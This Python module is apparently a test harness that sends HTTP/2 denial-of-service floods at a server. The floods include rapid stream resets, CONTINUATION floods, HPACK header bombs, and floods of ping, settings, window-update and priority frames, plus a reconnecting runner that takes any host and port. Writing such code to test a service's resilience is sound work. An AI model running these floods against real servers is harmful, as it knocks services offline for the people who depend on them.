"""Floods of frames, each of which a peer may send, that one caller lays upon a server."""

import contextlib
import itertools
import socket
import threading
from collections.abc import Callable, Iterator, Mapping

from harness.http2 import (
    ACKNOWLEDGED,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    header,
    headers,
)
from server.rpc.endpoint import PREDICT

CANCEL = (8).to_bytes(4)
LAST_STREAM = 2**31 - 1

Attack = Callable[[str], Iterator[bytes]]
"""Returns what to send, chunk by chunk, after an HTTP/2 connection has been opened; some attacks
are on a method, at a path such as /SERVICE/METHOD.
"""


def _on_streams(write: Callable[[bytes, int], bytes], extra: int = 0, each: int = 64) -> Attack:
    """Return an attack that writes the same for each new stream, `each` in a chunk; headers have
    `extra` bytes more.
    """

    def attack(path: str) -> Iterator[bytes]:
        block = headers(path, *([(b"x-more", b"a" * extra)] if extra else []))
        for first in range(1, LAST_STREAM - 2 * each, 2 * each):
            yield b"".join(write(block, first + 2 * index) for index in range(each))

    return attack


def _again_and_again(content: bytes, first: Callable[[str], bytes] = lambda _: b"") -> Attack:
    def attack(path: str) -> Iterator[bytes]:
        yield first(path)
        yield from itertools.repeat(content * (1 + 16_384 // len(content)))

    return attack


def _begun(block: bytes, stream: int) -> bytes:
    return frame(HEADERS, block, END_HEADERS, stream)


def _reset(stream: int) -> bytes:
    return frame(RST_STREAM, CANCEL, 0, stream)


def _header_bomb(references: int) -> Attack:
    """Return an attack whose headers are a reference of one byte, each to 3,900 that are kept."""
    kept = header(b"x", b"a" * 3900, kept=True)

    def attack(path: str) -> Iterator[bytes]:
        block = headers(path)
        yield frame(HEADERS, block + kept, END_HEADERS | END_STREAM, 1)
        for stream in range(3, LAST_STREAM, 2):
            yield _begun(block + b"\xbe" * references, stream) + _reset(stream)

    return attack


def _continuation(content: bytes) -> Attack:
    return _again_and_again(
        frame(CONTINUATION, content, 0, 1), lambda path: frame(HEADERS, headers(path), 0, 1)
    )


ATTACKS: Mapping[str, Attack] = {
    "begun": _on_streams(_begun),
    "reset": _on_streams(lambda block, stream: _begun(block, stream) + _reset(stream)),
    "half closed": _on_streams(
        lambda block, stream: frame(HEADERS, block, END_HEADERS | END_STREAM, stream)
    ),
    "truncated prefix": _on_streams(
        lambda block, stream: _begun(block, stream) + frame(DATA, bytes(2), 0, stream)
    ),
    "truncated prefix, ended": _on_streams(
        lambda block, stream: _begun(block, stream) + frame(DATA, bytes(2), END_STREAM, stream)
    ),
    "large headers": _on_streams(_begun, 7000, 8),
    "large headers, reset": _on_streams(
        lambda block, stream: _begun(block, stream) + _reset(stream), 7000, 8
    ),
    "too large headers": _on_streams(_begun, 15_000, 4),
    "header bomb": _header_bomb(3),
    "large header bomb": _header_bomb(16_000),
    "continuation": _continuation(header(b"x-more", b"a" * 1000)),
    "empty continuation": _continuation(b""),
    "priority": _on_streams(lambda _, stream: frame(PRIORITY, bytes(5), 0, stream), each=1000),
    "settings": _again_and_again(frame(SETTINGS, b"\0\x04\0\0\xff\xff")),
    "pings": _again_and_again(frame(PING, bytes(8))),
    "answers to no ping": _again_and_again(frame(PING, bytes(8), ACKNOWLEDGED)),
    "windows": _again_and_again(frame(WINDOW_UPDATE, (1).to_bytes(4))),
    "windows of a stream": _again_and_again(
        frame(WINDOW_UPDATE, (1).to_bytes(4), 0, 1), lambda path: _begun(headers(path), 1)
    ),
    "empty data": _again_and_again(frame(DATA, b"", 0, 1), lambda path: _begun(headers(path), 1)),
    "resets of no stream": _on_streams(lambda _, stream: _reset(stream), each=1000),
    "unknown frames": _again_and_again(frame(0x40, bytes(8))),
}


@contextlib.contextmanager
def attacking(address: str, attack: Attack, path: str = PREDICT) -> Iterator[threading.Event]:
    """Attack a server until the block ends, over a new connection whenever it closes one; the event
    is set once the attack has begun.
    """
    host, port = address.split(":")
    begun, over = threading.Event(), threading.Event()

    def drain(connection: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while connection.recv(2**20):
                pass

    def send() -> None:
        with socket.create_connection((host, int(port)), timeout=30) as connection:
            connection.sendall(PREFACE + frame(SETTINGS))
            connection.recv(2**16)
            connection.sendall(frame(SETTINGS, flags=ACKNOWLEDGED))
            reader = threading.Thread(target=drain, args=(connection,))
            reader.start()
            try:
                for chunk in attack(path):
                    connection.sendall(chunk)
                    begun.set()
                    if over.is_set():
                        return
            finally:
                with contextlib.suppress(OSError):
                    connection.shutdown(socket.SHUT_RDWR)
                reader.join()

    def go_on() -> None:
        while not over.is_set():
            with contextlib.suppress(OSError):
                send()

    thread = threading.Thread(target=go_on)
    thread.start()
    try:
        yield begun
    finally:
        over.set()
        thread.join()
